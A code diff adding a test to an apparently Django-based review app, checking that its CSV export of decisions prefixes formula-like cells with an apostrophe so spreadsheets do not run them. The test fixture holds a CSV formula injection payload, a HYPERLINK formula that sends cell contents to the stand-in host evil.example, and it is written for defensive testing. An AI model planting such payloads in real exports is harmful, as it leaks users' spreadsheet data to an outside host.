@@ -196,6 +196,24 @@ def test_the_csv_export_lists_every_decision_with_owner_deadline_and_status(clie
         (str(decision.pk), "Call, then email", team["csm"].email, "2027-02-15", "open")]
 
 
+def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(client, team, kpis, review):
+    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    target = a_decision(review, team["csm"], kind="change_target", kpi=kpis["nps"], new_target=-5,
+                        text=hyperlink, target_rationale="@SUM(A1:A9)")
+    plain = a_decision(review, team["csm"], text="-5% churn by June")
+    decision_status_set(decision=plain, status="in_progress", user=team["csm"], note="+1 sponsor call booked")
+    login(client, team["csm"])
+
+    response = client.get(f"/reviews/{review.pk}/decisions.csv")
+
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
+    assert (rows[str(target.pk)]["text"], rows[str(target.pk)]["target_rationale"]) == ("'" + hyperlink,
+                                                                                        "'@SUM(A1:A9)")
+    assert rows[str(target.pk)]["new_target"] == "-5"  # a number stays a number
+    assert rows[str(plain.pk)]["text"] == "'-5% churn by June"
+    assert rows[str(plain.pk)]["last_update"].endswith(": +1 sponsor call booked")
+
+
 def test_the_printable_page_has_the_snapshot_commentary_and_decisions(client, team, kpis, review):
     from reviews.services import review_kpi_comment
 
